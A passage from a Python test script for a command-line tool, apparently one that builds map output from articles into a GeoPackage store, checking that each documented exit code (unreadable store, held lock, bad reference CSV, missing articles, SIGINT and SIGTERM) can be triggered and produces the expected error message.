            [str(unreadable / "naqsha.gpkg"), "--rebuild"]),
        7: (held_lock, [f"PID {os.getpid()}", "--wait"]),
        8: (bad_reference, [str(ctx.work / "reference.csv"), "no column 'status'"]),
        9: (lambda: ctx.run("run", "--articles", empty, "--out", ctx.work / "no-articles", "--no-tiles", expect=9),
            ["no article found", str(empty), "nothing was written"]),
        128 + signal.SIGINT: (signalled(signal.SIGINT), ["SIGINT"]),
        128 + signal.SIGTERM: (signalled(signal.SIGTERM), ["SIGTERM"]),
    }
    table = documented_exit_codes()
    print("documented:", {code: meaning[:40] for code, meaning in table.items()})
    check(set(table) == set(ways), f"docs/cli.md lists {sorted(table)}; this test brings about {sorted(ways)}")
    from checklist import EXIT_INTERNAL
    check([EXIT_SUCCESS, EXIT_PARTIAL, EXIT_USAGE, EXIT_BOUNDARY_DATA, EXIT_OUTPUT, EXIT_INTERNAL, EXIT_STORE,
           EXIT_BUSY, EXIT_SIGTERM] == [0, 1, 2, 3, 4, 5, 6, 7, 143], "the tests' exit code names")
    for code in sorted(ways):
        bring_about, words = ways[code]
        result = bring_about()
        if result is None:
            continue
        for word in words:
            check(word in result[1], f"exit {code} ({table[code]}): the message does not say {word!r}: {result[1]!r}")


if __name__ == "__main__":
    sys.exit(main(case, __doc__, Context))
